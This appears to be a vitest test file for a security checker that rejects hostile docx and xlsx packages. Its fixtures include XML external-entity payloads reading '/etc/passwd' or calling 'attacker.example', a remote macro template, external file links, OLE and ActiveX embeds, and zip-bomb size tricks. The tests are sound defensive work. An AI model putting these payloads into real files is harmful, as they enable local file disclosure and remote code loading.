// docx and xlsx only as plain OOXML (DESIGN §7.4): each hostile variant below differs from a clean
// package that passes by one thing, so each test fails if its control is removed.
import { describe, expect, it } from 'vitest';
import { checkFile } from '../../src/security/file-checks/check-file.js';
import { inspectOoxml } from '../../src/security/file-checks/ooxml.js';
import { FILE_LIMITS, FileRejected, type RejectionReason } from '../../src/security/file-checks/rejection.js';
import { contentTypes, declareSize, DOCX_MAIN, docxParts, rels, wordDocument, XLSX_MAIN, xlsxParts, zip } from '../helpers/files.js';

function reason(bytes: Uint8Array): RejectionReason | 'accepted' {
  try {
    inspectOoxml(bytes);
    return 'accepted';
  } catch (error) {
    if (error instanceof FileRejected) return error.reason;
    throw error;
  }
}

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

describe('clean packages pass', () => {
  it('a docx and an xlsx', async () => {
    expect(inspectOoxml(zip(docxParts()))).toBe('docx');
    expect(inspectOoxml(zip(xlsxParts()))).toBe('xlsx');
    expect((await checkFile('x.docx', zip(docxParts()))).ext).toBe('docx');
  });

  it('whatever the file is called: the content types decide', async () => {
    expect((await checkFile('table.docx', zip(xlsxParts()))).ext).toBe('xlsx');
  });

  it('a docx with an internal image relationship', () => {
    const parts = { ...docxParts(), 'word/_rels/document.xml.rels': rels([{ id: 'rId5', type: `${REL}/image`, target: 'media/image1.png' }]), 'word/media/image1.png': new Uint8Array([0x89, 0x50]) };
    expect(reason(zip(parts))).toBe('accepted');
  });
});

describe('macros', () => {
  it('refuses word/vbaProject.bin', () => {
    expect(reason(zip({ ...docxParts(), 'word/vbaProject.bin': new Uint8Array([1, 2, 3]) }))).toBe('macros');
  });

  it('refuses a macro-enabled main content type (a docm renamed .docx)', async () => {
    const parts = { ...docxParts(), '[Content_Types].xml': contentTypes({ '/word/document.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml' }) };
    expect(reason(zip(parts))).toBe('macros');
    // file-type calls it a docm; the inspection still gives the precise reason.
    await expect(checkFile('report.docx', zip(parts))).rejects.toMatchObject({ reason: 'macros' });
  });

  it('refuses a vbaProject content type declared by extension', () => {
    const parts = { ...docxParts(), '[Content_Types].xml': contentTypes({ '/word/document.xml': DOCX_MAIN }, { bin: 'application/vnd.ms-office.vbaProject' }) };
    expect(reason(zip(parts))).toBe('macros');
  });

  it('refuses a macro relationship', () => {
    const parts = { ...docxParts(), 'word/_rels/document.xml.rels': rels([{ id: 'rId9', type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'code.dat' }]) };
    expect(reason(zip(parts))).toBe('macros');
  });
});

describe('external relationships', () => {
  const linked = (targetMode: string) => ({ ...docxParts(), 'word/_rels/settings.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="${targetMode}"/></Relationships>` });

  it('refuses a remote template', () => {
    expect(reason(zip(linked('External')))).toBe('external_relationship');
  });

  it('refuses it however the attribute is spelled', () => {
    expect(reason(zip(linked('&#69;xternal')))).toBe('external_relationship');
    expect(reason(zip(linked(' external ')))).toBe('external_relationship');
  });

  it('refuses an external relationship in the package rels and in an xlsx', () => {
    const docx = { ...docxParts(), '_rels/.rels': rels([{ id: 'rId1', type: `${REL}/officeDocument`, target: 'word/document.xml' }, { id: 'rId2', type: `${REL}/hyperlink`, target: 'https://example.cn', external: true }]) };
    expect(reason(zip(docx))).toBe('external_relationship');
    const xlsx = { ...xlsxParts(), 'xl/externalLinks/_rels/externalLink1.xml.rels': rels([{ id: 'rId1', type: `${REL}/externalLinkPath`, target: 'file:///C:/secret.xlsx', external: true }]) };
    expect(reason(zip(xlsx))).toBe('external_relationship');
  });

  it('accepts the same relationship when it stays inside the package', () => {
    expect(reason(zip(linked('Internal')))).toBe('accepted');
  });
});

describe('DTDs and entities', () => {
  it('refuses <!ENTITY in the main part', () => {
    const body = docxParts();
    body['word/document.xml'] = `<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY lol "lol">]>${wordDocument('<w:p><w:r><w:t>&lol;</w:t></w:r></w:p>').replace(/^<\?xml[^>]*>\n/u, '')}`;
    expect(reason(zip(body))).toBe('xml_declarations');
  });

  it('refuses <!ENTITY in a part nobody parses, and in UTF-16', () => {
    expect(reason(zip({ ...docxParts(), 'word/theme/theme1.xml': '<!ENTITY x SYSTEM "file:///etc/passwd"><a/>' }))).toBe('xml_declarations');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<!DOCTYPE a><a/>', 'utf16le')]);
    expect(reason(zip({ ...docxParts(), 'docProps/app.xml': utf16 }))).toBe('xml_declarations');
  });

  it('refuses <!DOCTYPE in a part that is XML only by its declared content type', () => {
    const parts = { ...docxParts(), '[Content_Types].xml': contentTypes({ '/word/document.xml': DOCX_MAIN, '/word/extra.dat': 'application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml' }), 'word/extra.dat': '<!DOCTYPE x [<!ENTITY e SYSTEM "http://attacker.example/">]><x>&e;</x>' };
    expect(reason(zip(parts))).toBe('xml_declarations');
    expect(reason(zip({ ...parts, 'word/extra.dat': '<x/>' }))).toBe('accepted');
  });
});

describe('embedded objects and ActiveX', () => {
  it('refuses an OLE object', () => {
    expect(reason(zip({ ...docxParts(), 'word/embeddings/oleObject1.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) }))).toBe('embedded_object');
  });

  it('refuses any .bin under embeddings, and an oleObject relationship', () => {
    expect(reason(zip({ ...docxParts(), 'word/embeddings/Package1.bin': new Uint8Array([1]) }))).toBe('embedded_object');
    const parts = { ...docxParts(), 'word/_rels/document.xml.rels': rels([{ id: 'rId7', type: `${REL}/oleObject`, target: 'embeddings/thing.dat' }]) };
    expect(reason(zip(parts))).toBe('embedded_object');
  });

  it('refuses ActiveX controls', () => {
    expect(reason(zip({ ...docxParts(), 'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>' }))).toBe('activex');
  });
});

describe('zip bombs and malformed packages', () => {
  it('refuses more entries than the limit before inflating any', () => {
    const parts = docxParts();
    for (let i = 0; i < FILE_LIMITS.zipEntries; i++) parts[`word/media/pad${String(i)}.txt`] = '';
    expect(reason(zip(parts))).toBe('archive_limits');
  });

  it('refuses a part that declares more than the total limit', () => {
    const archive = zip(docxParts());
    expect(reason(archive)).toBe('accepted');
    expect(reason(declareSize(archive, 'word/document.xml', FILE_LIMITS.zipUncompressedBytes + 1))).toBe('archive_limits');
  });

  it('refuses parts whose declared sizes add up past the limit', () => {
    const half = Math.floor(FILE_LIMITS.zipUncompressedBytes / 2) + 1;
    const archive = declareSize(declareSize(zip({ ...docxParts(), 'a.bin': 'x', 'b.bin': 'y' }), 'a.bin', half), 'b.bin', half);
    expect(reason(archive)).toBe('archive_limits');
  });

  it('refuses two parts with one name', () => {
    const archive = zip({ ...docxParts(), 'WORD/DOCUMENT.XML': wordDocument('') });
    expect(reason(archive)).toBe('malformed');
  });

  it('refuses a package without its main part, or with main XML that is not well-formed', () => {
    const { 'word/document.xml': _dropped, ...rest } = docxParts();
    expect(reason(zip(rest))).toBe('not_allowed');
    expect(reason(zip({ ...docxParts(), 'word/document.xml': '<w:document><w:body></w:document>' }))).toBe('malformed');
  });

  it('refuses a package that is both a docx and an xlsx', () => {
    const both = { ...xlsxParts(), ...docxParts(), '[Content_Types].xml': contentTypes({ '/word/document.xml': DOCX_MAIN, '/xl/workbook.xml': XLSX_MAIN }) };
    expect(reason(zip(both))).toBe('malformed');
  });

  it('refuses a plain zip and a presentation', () => {
    expect(reason(zip({ 'notes.txt': 'hello' }))).toBe('not_allowed');
    const pptx = { '[Content_Types].xml': contentTypes({ '/ppt/presentation.xml': 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml' }), 'ppt/presentation.xml': '<p/>' };
    expect(reason(zip(pptx))).toBe('not_allowed');
  });
});
